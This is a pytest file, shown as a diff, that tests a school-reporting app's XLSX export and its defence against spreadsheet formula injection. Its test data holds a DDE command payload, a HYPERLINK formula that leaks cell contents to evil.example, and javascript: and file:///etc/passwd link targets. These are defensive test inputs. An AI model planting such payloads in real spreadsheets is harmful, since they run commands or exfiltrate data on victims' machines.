@@ -1,0 +1,671 @@
+"""The XLSX export, read back with openpyxl: layout, values, links and formula injection."""
+
+from __future__ import annotations
+
+import io
+import os
+import tracemalloc
+from dataclasses import dataclass
+from datetime import UTC, date, datetime
+from pathlib import Path
+from typing import Any
+from zoneinfo import ZoneInfo
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.cell import Cell
+from openpyxl.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
+from sqlalchemy import insert, select
+from sqlalchemy.dialects import postgresql
+from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
+
+import exports.xlsx as xlsx
+from exports.xlsx import (
+    ExportSummary,
+    build_export,
+    diagnostics_query,
+    export_filename,
+    last_full_week,
+    reports_query,
+    roadmap_query,
+    safe_text,
+)
+from models import (
+    ActivityReport,
+    DiagnosticRun,
+    Evidence,
+    EvidenceKind,
+    Mark,
+    Questionnaire,
+    ReviewState,
+    RoadmapItem,
+    Role,
+    RunStatus,
+    School,
+    User,
+)
+from models.users import visible_schools_query
+from tests.conftest import World
+
+TZ = ZoneInfo("Europe/Moscow")
+START, END = date(2026, 11, 16), date(2026, 11, 22)
+TODAY = date(2026, 11, 25)
+
+INJECTIONS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    " =1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
+    "=cmd|' /C calc'!A0",
+]
+EVIL = "=cmd|' /C calc'!A0"
+
+SHEETS = ["Сводка", "Мероприятия", "Дорожные карты", "Самодиагностика"]
+HEADERS = {
+    "Сводка": [
+        "Школа",
+        "Отчётов за период",
+        "Всего отчётов",
+        "Выполнено",
+        "Частично",
+        "Не выполнено",
+        "Мероприятий в дорожной карте",
+        "С отчётом",
+        "Просрочено",
+        "Ожидают проверки",
+        "На доработке",
+        "Последняя активность",
+        "Уровень самодиагностики",
+    ],
+    "Мероприятия": [
+        "№",
+        "Школа",
+        "Направление",
+        "Дата",
+        "Форма и тема мероприятия",
+        "Организатор",
+        "Отметка о выполнении",
+        "Проведённые мероприятия",
+        "Количество и категория участников",
+        "Ссылки на материалы",
+        "Автор",
+        "Статус проверки",
+    ],
+    "Дорожные карты": [
+        "Школа",
+        "№ п/п",
+        "Направление",
+        "Мероприятие",
+        "Сроки",
+        "Срок",
+        "Отметка о выполнении",
+        "Просрочено",
+        "Проведённые мероприятия",
+    ],
+    "Самодиагностика": [
+        "Школа",
+        "Анкета",
+        "Дата",
+        "Направление",
+        "Баллы",
+        "Максимум",
+        "Уровень",
+        "Дефициты",
+    ],
+}
+
+MSH_RESULT = {
+    "directions": [
+        {
+            "code": "knowledge",
+            "title": "Знание",
+            "points": 10,
+            "max_points": 20,
+            "level": "basic",
+            "deficits": ["Нет кружков", "=1+1"],
+        },
+        {
+            "code": "climate",
+            "title": "Школьный климат",
+            "points": 5.5,
+            "max_points": 6,
+            "level": "high",
+            "deficits": [],
+        },
+    ],
+    "overall": {"points": 15.5, "max_points": 26, "level": "medium"},
+}
+RISK_RESULT = {
+    "directions": [
+        {
+            "code": "equipment",
+            "title": "Низкий уровень оснащения школы",
+            "points": 4,
+            "max_points": 6,
+            "level": "high",
+            "deficits": ["Низкий уровень оснащения школы"],
+        }
+    ],
+    "overall": {"points": 4, "max_points": 6, "level": "low"},
+    "unknown": [],
+    "estimate": True,
+}
+
+
+@dataclass
+class Data:
+    world: World
+    at_school: School
+    evil_author: User
+
+
+def _report(school: School, held_on: date, title: str, **kwargs: Any) -> ActivityReport:
+    kwargs.setdefault("mark", Mark.DONE)
+    return ActivityReport(school_id=school.id, held_on=held_on, title=title, **kwargs)
+
+
+@pytest.fixture
+async def data(world: World, session_factory: async_sessionmaker[AsyncSession]) -> Data:
+    a, b = world.school_a, world.school_b
+    async with session_factory() as session, session.begin():
+        at_school = School(
+            municipality_id=world.municipality.id, name="@Школа полностью", short_name="@Школа"
+        )
+        evil_author = User(telegram_id=7, full_name=EVIL, role=Role.TEACHER, school_id=a.id)
+        session.add_all([at_school, evil_author])
+        await session.flush()
+
+        i1 = RoadmapItem(
+            school_id=a.id,
+            position=1,
+            number="1.",
+            direction="knowledge",
+            title="Провести педсовет",
+            due_raw="до 20.11.2026 г.",
+            due_date=date(2026, 11, 20),
+        )
+        i2 = RoadmapItem(
+            school_id=a.id, position=2, number="2", title="=1+1", due_raw="В течение года"
+        )
+        i3 = RoadmapItem(
+            school_id=a.id,
+            position=3,
+            number="-3",
+            direction="health",
+            title="Фестиваль здоровья",
+            due_raw="до 01.11.2026",
+            due_date=date(2026, 11, 1),
+        )
+        archived = RoadmapItem(school_id=a.id, position=4, title="Старое", is_archived=True)
+        b_item = RoadmapItem(school_id=b.id, position=1, title="Пункт школы Б")
+        session.add_all([i1, i2, i3, archived, b_item])
+        await session.flush()
+
+        one_link = _report(
+            a,
+            START,
+            "Педсовет «Цели года»",
+            roadmap_item_id=i1.id,
+            organizer="Директор",
+            description="Обсудили дорожную карту",
+            participants_count=25,
+            participants_category="педагоги",
+            author_id=world.teacher.id,
+            review_state=ReviewState.CONFIRMED,
+        )
+        several = _report(
+            a,
+            END,
+            "День здоровья",
+            direction="health",
+            mark=Mark.PARTIAL,
+            participants_count=120,
+            author_id=world.coordinator.id,
+            review_state=ReviewState.RETURNED,
+        )
+        session.add_all(
+            [
+                one_link,
+                several,
+                _report(a, date(2026, 11, 15), "До периода"),
+                _report(a, date(2026, 11, 23), "После периода"),
+                _report(
+                    a, date(2026, 10, 30), "Эстафета", roadmap_item_id=i3.id, mark=Mark.PARTIAL
+                ),
+                _report(b, date(2026, 11, 17), "Школа Б"),
+            ]
+        )
+        injected = [
+            _report(
+                a,
+                date(2026, 11, 18),
+                text,
+                organizer=text,
+                description=text,
+                participants_category=text,
+                author_id=evil_author.id,
+                mark=Mark.NOT_DONE,
+            )
+            for text in INJECTIONS
+        ]
+        session.add_all(injected)
+        await session.flush()
+        session.add_all(
+            [
+                Evidence(report_id=one_link.id, kind=EvidenceKind.LINK, url="https://s.ru/n/1"),
+                Evidence(report_id=several.id, kind=EvidenceKind.LINK, url="https://a.ru/x"),
+                Evidence(report_id=several.id, kind=EvidenceKind.LINK, url="http://b.ru/y"),
+                Evidence(
+                    report_id=several.id,
+                    kind=EvidenceKind.DOCUMENT,
+                    file_id="doc",
+                    file_name="протокол.pdf",
+                ),
+                Evidence(report_id=several.id, kind=EvidenceKind.PHOTO, file_id="photo"),
+                Evidence(
+                    report_id=injected[0].id,
+                    kind=EvidenceKind.LINK,
+                    url='=HYPERLINK("http://evil.example")',
+                ),
+            ]
+        )
+
+        msh = Questionnaire(
+            code="msh",
+            version="2024.1",
+            title="Школа Минпросвещения",
+            kind="levels",
+            definition={},
+        )
+        risk = Questionnaire(
+            code="risk500",
+            version="2024.1",
+            title="Рисковый профиль",
+            kind="risk_profile",
+            definition={},
+        )
+        session.add_all([msh, risk])
+        await session.flush()
+        session.add_all(
+            [
+                DiagnosticRun(
+                    school_id=a.id,
+                    questionnaire_id=msh.id,
+                    status=RunStatus.COMPLETED,
+                    completed_at=datetime(2026, 9, 1, tzinfo=UTC),
+                    level="basic",
+                    result={"directions": [], "overall": {"level": "basic"}},
+                ),
+                DiagnosticRun(
+                    school_id=a.id,
+                    questionnaire_id=msh.id,
+                    status=RunStatus.COMPLETED,
+                    # 22:30 UTC is already the next day in Moscow.
+                    completed_at=datetime(2026, 11, 10, 22, 30, tzinfo=UTC),
+                    total_points=15.5,
+                    max_points=26,
+                    level="medium",
+                    result=MSH_RESULT,
+                ),
+                DiagnosticRun(school_id=a.id, questionnaire_id=msh.id),
+                DiagnosticRun(
+                    school_id=a.id,
+                    questionnaire_id=risk.id,
+                    status=RunStatus.COMPLETED,
+                    completed_at=datetime(2026, 10, 1, 9, tzinfo=UTC),
+                    level="low",
+                    result=RISK_RESULT,
+                ),
+                DiagnosticRun(
+                    school_id=b.id,
+                    questionnaire_id=msh.id,
+                    status=RunStatus.COMPLETED,
+                    completed_at=datetime(2026, 10, 1, 9, tzinfo=UTC),
+                    level="high",
+                    result=MSH_RESULT,
+                ),
+            ]
+        )
+    return Data(world=world, at_school=at_school, evil_author=evil_author)
+
+
+async def _export(
+    session: AsyncSession, tmp_path: Path, schools: Any, **kwargs: Any
+) -> tuple[ExportSummary, Workbook]:
+    path = tmp_path / export_filename(START, END)
+    summary = await build_export(
+        session, schools=schools, start=START, end=END, tz=TZ, out=path, today=TODAY, **kwargs
+    )
+    return summary, load_workbook(path)
+
+
+def _rows(ws: Worksheet) -> list[list[Cell]]:
+    return [list(row) for row in ws.iter_rows(min_row=2)]
+
+
+def _column(ws: Worksheet, title: str) -> list[Any]:
+    index = HEADERS[ws.title].index(title)
+    return [row[index].value for row in ws.iter_rows(min_row=2)]
+
+
+def _ids(data: Data) -> list[int]:
+    return [data.world.school_a.id, data.at_school.id]
+
+
+async def test_layout_of_every_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    summary, wb = await _export(session, tmp_path, _ids(data))
+
+    assert wb.sheetnames == SHEETS
+    for name in SHEETS:
+        ws = wb[name]
+        header = next(ws.iter_rows(max_row=1))
+        assert [c.value for c in header] == HEADERS[name]
+        assert all(c.font.b for c in header)
+        assert ws.freeze_panes == "A2"
+        last_column = chr(ord("A") + len(HEADERS[name]) - 1)
+        assert ws.auto_filter.ref == f"A1:{last_column}{ws.max_row}"
+        assert ws.column_dimensions["A"].width > 5
+    assert summary == ExportSummary(
+        schools=2, reports=11, items=3, diagnostics=5, links=4, hyperlinks=2, files=2
+    )
+    assert wb["Мероприятия"].max_row == 1 + 11
+
+
+async def test_summary_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+    ws = wb["Сводка"]
+
+    at, a = _rows(ws)
+    assert at[0].value == "'@Школа"
+    assert [c.value for c in at[1:11]] == [0] * 10
+    assert at[11].value is None and at[12].value is None
+
+    assert [c.value for c in a[:11]] == [
+        "СОШ №2",
+        11,  # one_link, several, nine injected
+        14,
+        3,  # one_link and the two outside the period
+        2,
+        9,
+        3,
+        2,  # i1, i3
+        1,  # i3: only partial, past due
+        12,
+        1,
+    ]
+    assert a[11].value == datetime(2026, 11, 23)
+    assert a[11].is_date and a[11].number_format == "DD.MM.YYYY"
+    assert a[12].value == "средний"
+
+
+async def test_reports_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+    ws = wb["Мероприятия"]
+    rows = _rows(ws)
+
+    first, last = rows[0], rows[-1]
+    assert [c.value for c in first] == [
+        1,
+        "СОШ №2",
+        "Знание",  # from its roadmap item
+        datetime(2026, 11, 16),
+        "Педсовет «Цели года»",
+        "Директор",
+        "+",
+        "Обсудили дорожную карту",
+        "25 чел., педагоги",
+        "https://s.ru/n/1",
+        "Учитель А",
+        "подтверждено",
+    ]
+    assert first[3].is_date and first[3].number_format == "DD.MM.YYYY"
+    assert first[6].data_type == "s"
+    assert first[9].hyperlink.target == "https://s.ru/n/1"
+
+    assert last[0].value == 11
+    assert last[2].value == "Здоровье"
+    assert last[6].value == "Частично"
+    assert last[8].value == "120 чел."
+    assert last[9].value == "https://a.ru/x\nhttp://b.ru/y\nфайл: протокол.pdf\nфайл: фото"
+    assert last[9].hyperlink.target == "https://a.ru/x"
+    assert last[9].alignment.wrap_text
+    assert (last[10].value, last[11].value) == ("Координатор А", "на доработку")
+
+    assert _column(ws, "Отметка о выполнении")[1:10] == ["−"] * 9
+
+
+async def test_period_and_school_filters(
+    data: Data, session: AsyncSession, tmp_path: Path
+) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+
+    titles = _column(wb["Мероприятия"], "Форма и тема мероприятия")
+    assert "До периода" not in titles and "После периода" not in titles
+    assert "Школа Б" not in titles
+    for name in SHEETS:
+        schools = set(_column(wb[name], "Школа"))
+        assert "СОШ №5" not in schools
+    assert set(_column(wb["Дорожные карты"], "Мероприятие")).isdisjoint(
+        {"Пункт школы Б", "Старое"}
+    )
+
+
+async def test_schools_as_a_select(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    summary, wb = await _export(session, tmp_path, visible_schools_query(data.world.teacher_b))
+
+    assert _column(wb["Сводка"], "Школа") == ["СОШ №5"]
+    assert _column(wb["Мероприятия"], "Форма и тема мероприятия") == ["Школа Б"]
+    assert summary.schools == 1 and summary.items == 1
+
+
+async def test_roadmap_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+    rows = _rows(wb["Дорожные карты"])
+
+    assert [[c.value for c in row] for row in rows] == [
+        [
+            "СОШ №2",
+            "1.",
+            "Знание",
+            "Провести педсовет",
+            "до 20.11.2026 г.",
+            datetime(2026, 11, 20),
+            "+",
+            "нет",
+            "16.11.2026 — Педсовет «Цели года»",
+        ],
+        ["СОШ №2", "2", None, "'=1+1", "В течение года", None, "−", "нет", None],
+        [
+            "СОШ №2",
+            "'-3",
+            "Здоровье",
+            "Фестиваль здоровья",
+            "до 01.11.2026",
+            datetime(2026, 11, 1),
+            "Частично",
+            "да",
+            "30.10.2026 — Эстафета",
+        ],
+    ]
+    assert rows[0][5].number_format == "DD.MM.YYYY"
+
+
+async def test_diagnostics_sheet(data: Data, session: AsyncSession, tmp_path: Path) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+    rows = _rows(wb["Самодиагностика"])
+
+    msh_date = datetime(2026, 11, 11)  # the Moscow date of 22:30 UTC on the 10th
+    assert [[c.value for c in row] for row in rows] == [
+        ["СОШ №2", "Школа Минпросвещения", msh_date, "Знание", 10, 20, "базовый",
+         "Нет кружков\n=1+1"],
+        ["СОШ №2", "Школа Минпросвещения", msh_date, "Школьный климат", 5.5, 6, "высокий", None],
+        ["СОШ №2", "Школа Минпросвещения", msh_date, "Итого", 15.5, 26, "средний", None],
+        ["СОШ №2", "Рисковый профиль", datetime(2026, 10, 1), "Низкий уровень оснащения школы",
+         4, 6, "высокий (оценка бота)", "Низкий уровень оснащения школы"],
+        ["СОШ №2", "Рисковый профиль", datetime(2026, 10, 1), "Итого", 4, 6,
+         "низкий (оценка бота)", None],
+    ]  # fmt: skip
+    assert rows[0][2].number_format == "DD.MM.YYYY"
+
+
+async def test_no_user_text_can_become_a_formula(
+    data: Data, session: AsyncSession, tmp_path: Path
+) -> None:
+    _, wb = await _export(session, tmp_path, _ids(data))
+
+    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    strings = [c for c in cells if isinstance(c.value, str)]
+    assert all(c.data_type == "s" and not c.value.startswith("=") for c in strings)
+
+    ws = wb["Мероприятия"]
+    injected = [row for row in _rows(ws) if row[4].value != "Педсовет «Цели года»"][:-1]
+    assert len(injected) == len(INJECTIONS)
+    for row, text in zip(injected, INJECTIONS, strict=True):
+        # Title, organizer, description, participants: the text itself, after a quote.
+        # (XML turns the carriage return into a line feed on the way back.)
+        expected = "'" + text.replace("\r", "\n")
+        assert [row[i].value for i in (4, 5, 7, 8)] == [expected] * 4
+        assert row[10].value == "'" + EVIL
+    assert injected[0][9].value == "'" + '=HYPERLINK("http://evil.example")'
+    assert injected[0][9].hyperlink is None
+
+
+def test_safe_text() -> None:
+    for text in INJECTIONS:
+        assert safe_text(text) == "'" + text
+    assert safe_text("\u00a0\n-5") == "'\u00a0\n-5"
+    assert safe_text("Педсовет + родители") == "Педсовет + родители"
+    assert safe_text("\x00=1\x0b") == "'=1"
+    assert safe_text(None) is None
+    long = safe_text("я" * 40_000)
+    assert len(long) == xlsx.MAX_CELL_CHARS and long.endswith("…")
+
+
+async def test_hyperlinks_stop_at_the_limit(
+    data: Data, session: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(xlsx, "MAX_HYPERLINKS_PER_SHEET", 1)
+
+    summary, wb = await _export(session, tmp_path, _ids(data))
+
+    assert (summary.links, summary.hyperlinks) == (4, 1)
+    rows = _rows(wb["Мероприятия"])
+    assert rows[0][9].hyperlink.target == "https://s.ru/n/1"
+    assert rows[-1][9].value.startswith("https://a.ru/x\n")
+    assert rows[-1][9].hyperlink is None
+    linked = [c for row in wb["Мероприятия"].iter_rows() for c in row if c.hyperlink]
+    assert len(linked) == 1
+
+
+async def test_empty_export_to_a_stream(world: World, session: AsyncSession) -> None:
+    out = io.BytesIO()
+    calls: list[int] = []
+    summary = await build_export(
+        session, schools=[], start=START, end=END, tz=TZ, out=out, progress=calls.append
+    )
+
+    wb = load_workbook(out)
+    assert wb.sheetnames == SHEETS
+    assert all(wb[name].auto_filter.ref.endswith("1") for name in SHEETS)
+    assert summary == ExportSummary(0, 0, 0, 0, 0, 0, 0)
+    assert calls == [0]
+
+
+async def test_progress_is_reported(
+    data: Data, session: AsyncSession, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(xlsx, "PROGRESS_EVERY", 5)
+    calls: list[int] = []
+
+    await _export(session, tmp_path, _ids(data), progress=calls.append)
+
+    total = 2 + 11 + 3 + 5
+    assert calls == [5, 10, 15, 20, total]
+
+
+async def test_period_must_not_be_reversed(session: AsyncSession) -> None:
+    with pytest.raises(ValueError):
+        await build_export(session, schools=[], start=END, end=START, tz=TZ, out=io.BytesIO())
+
+
+async def test_only_web_links_are_clickable(
+    world: World, session: AsyncSession, tmp_path: Path
+) -> None:
+    targets = ["javascript:alert(1)", "file:///etc/passwd", "https://x.ru/" + "a" * 2_100]
+    async with session.begin():
+        for target in targets:
+            report = _report(world.school_b, START, "Ссылка")
+            session.add(report)
+            await session.flush()
+            session.add(Evidence(report_id=report.id, kind=EvidenceKind.LINK, url=target))
+
+    summary, wb = await _export(session, tmp_path, [world.school_b.id])
+
+    assert (summary.links, summary.hyperlinks) == (3, 0)
+    assert sorted(_column(wb["Мероприятия"], "Ссылки на материалы")) == sorted(targets)
+
+
+def test_export_queries_compile_for_postgresql() -> None:
+    dialect = postgresql.dialect()  # type: ignore[no-untyped-call]
+    schools = select(School.id)
+    for stmt in (reports_query(schools, START, END), roadmap_query(schools)):
+        assert "ORDER BY" in str(stmt.compile(dialect=dialect))
+    assert "row_number() OVER" in str(diagnostics_query([1]).compile(dialect=dialect))
+
+
+def test_last_full_week() -> None:
+    assert last_full_week(date(2026, 11, 23)) == (date(2026, 11, 16), date(2026, 11, 22))
+    assert last_full_week(date(2026, 11, 22)) == (date(2026, 11, 9), date(2026, 11, 15))
+    assert last_full_week(date(2026, 11, 25)) == (date(2026, 11, 16), date(2026, 11, 22))
+    assert last_full_week(date(2027, 1, 1)) == (date(2026, 12, 21), date(2026, 12, 27))
+    assert last_full_week(date(2027, 1, 4)) == (date(2026, 12, 28), date(2027, 1, 3))
+
+
+def test_export_filename() -> None:
+    assert export_filename(START, END) == "отчёт_2026-11-16_2026-11-22.xlsx"
+
+
+# --- memory ----------------------------------------------------------------------------------
+# Not a timed assertion: the peak of Python allocations while exporting 10x more rows stays
+# within a small factor. Opt-in (EXPORT_MEMORY_CHECK=1), as it takes a few seconds.
+
+
+async def _peak_for(
+    session_factory: async_sessionmaker[AsyncSession], school_id: int, rows: int, out: Path
+) -> int:
+    async with session_factory() as session, session.begin():
+        await session.execute(
+            insert(ActivityReport),
+            [
+                {
+                    "school_id": school_id,
+                    "held_on": START,
+                    "title": f"Мероприятие {n} " + "т" * 200,
+                    "description": "о" * 300,
+                    "mark": Mark.DONE,
+                }
+                for n in range(rows)
+            ],
+        )
+    async with session_factory() as session:
+        tracemalloc.start()
+        try:
+            await build_export(session, schools=[school_id], start=START, end=END, tz=TZ, out=out)
+            return tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+
+
+@pytest.mark.skipif(not os.environ.get("EXPORT_MEMORY_CHECK"), reason="EXPORT_MEMORY_CHECK unset")
+async def test_memory_does_not_grow_with_rows(
+    world: World, session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
+) -> None:
+    small = await _peak_for(session_factory, world.school_a.id, 2_000, tmp_path / "small.xlsx")
+    large = await _peak_for(session_factory, world.school_b.id, 20_000, tmp_path / "large.xlsx")
+    assert large < small * 2, (small, large)
